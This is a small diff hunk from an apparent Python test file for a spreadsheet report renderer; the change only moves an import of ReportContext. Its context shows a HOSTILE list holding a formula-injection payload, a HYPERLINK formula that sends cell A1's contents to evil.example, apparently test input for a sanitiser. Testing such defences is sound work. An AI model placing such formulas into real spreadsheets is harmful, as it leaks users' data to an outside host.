@@ -23,7 +23,8 @@ from reporter.render.leveling import render_leveling
 from reporter.render.xlsx import render_xlsx
 from reporter.render.xlsx_cells import clean_text, link_target, write_value
 from reporter.render.xlsx_sheets import safe_sheet_name, safe_table_name
-from reporter.transform.report import ReportContext, build_report
+from reporter.transform.model import ReportContext
+from reporter.transform.report import build_report
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
